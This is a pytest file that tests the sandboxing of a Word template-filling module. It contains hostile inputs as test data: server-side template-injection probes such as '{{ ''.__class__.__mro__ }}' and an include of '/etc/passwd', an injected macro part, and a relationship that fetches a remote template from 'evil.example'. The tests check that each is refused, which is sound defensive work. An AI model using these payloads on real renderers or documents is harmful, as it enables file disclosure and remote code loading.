"""A template is somebody's file: it shows the values it is given and reaches nothing else."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime

import docx
import pytest

from app.documents import filling
from app.documents.filling import Origin, TemplateBroken, fill, inspect_package, names_used

ORIGIN = Origin("样子", "议事厅", datetime(2026, 11, 21, 8, tzinfo=UTC))


def template(*lines: str) -> bytes:
    word, written = docx.Document(), io.BytesIO()
    for line in lines:
        word.add_paragraph(line)
    word.save(written)
    return written.getvalue()


def repacked(content: bytes, name: str, part: bytes) -> bytes:
    """The same file with one part more, or in place of another."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(written, "w") as new:
        for entry in old.infolist():
            if entry.filename != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, part)
    return written.getvalue()


def text(content: bytes) -> str:
    return "\n".join(p.text for p in docx.Document(io.BytesIO(content)).paragraphs)


def test_values_are_shown_as_typed_and_never_read_as_marks() -> None:
    filled = fill(template("{{ a }}"), {"a": "<w:p> & {{ b }} {% if %}\x0b"}, ORIGIN)
    assert text(filled) == "<w:p> & {{ b }} {% if %}"


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("{{ nowhere }}", "不认识的名称"),
        ("{{ a.b.c }}", "不认识的名称"),
        ("{% for x in a %}", "没有写完整"),
        ("{{ a }", "没有写完整"),
        ("{{ a + 1 }}", "标记用错"),
        ("{{ 1 // 0 }}", "标记用错"),
        ("{{ a.__class__ }}", "不允许的内容"),
        ("{{ ''.__class__.__mro__ }}", "不允许的内容"),
        ("{{ l.append(1) }}", "不允许的内容"),
        ("{{ cycler }}", "不认识的名称"),
        ("{{ range(9) }}", "不认识的名称"),
        ("{% include '/etc/passwd' %}", "标记用错"),
    ],
)
def test_what_is_wrong_with_a_template_is_said(line: str, why: str) -> None:
    with pytest.raises(TemplateBroken, match=why):
        fill(template(line), {"a": "值", "l": [1]}, ORIGIN)


@pytest.mark.parametrize("content", [b"", b"not a zip", template("x")[:200]])
def test_what_is_no_word_file_is_refused(content: bytes) -> None:
    for ask in (lambda: fill(content, {}, ORIGIN), lambda: inspect_package(content)):
        with pytest.raises(TemplateBroken, match="不是 Word 文档"):
            ask()


def test_a_zip_without_a_document_is_no_word_file() -> None:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as package:
        package.writestr("a.txt", "a")
    with pytest.raises(TemplateBroken, match="不是 Word 文档"):
        fill(written.getvalue(), {}, ORIGIN)


def test_macros_foreign_parts_and_bombs_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    plain = template("x")
    inspect_package(plain)
    with pytest.raises(TemplateBroken, match="宏"):
        inspect_package(repacked(plain, "word/vbaProject.bin", b"macro"))
    outside = (
        b'<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" '
        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    with pytest.raises(TemplateBroken, match="外面"):
        inspect_package(repacked(plain, "word/_rels/settings.xml.rels", outside))
    link = outside.replace(b"attachedTemplate", b"hyperlink")
    inspect_package(repacked(plain, "word/_rels/settings.xml.rels", link))
    with pytest.raises(TemplateBroken, match="超过4 MB"):
        inspect_package(b"x" * (filling.MOST_BYTES + 1))
    monkeypatch.setattr(filling, "_MOST_UNPACKED", 1000)
    with pytest.raises(TemplateBroken, match="太大"):
        inspect_package(plain)


def test_the_names_a_template_asks_for() -> None:
    content = template("{{ title }}", "{%p for item in items %}", "{{ item.x }}", "{%p endfor %}")
    assert names_used(content) == {"title", "items"}
    with pytest.raises(TemplateBroken, match="没有写完整"):
        names_used(template("{% for %}"))
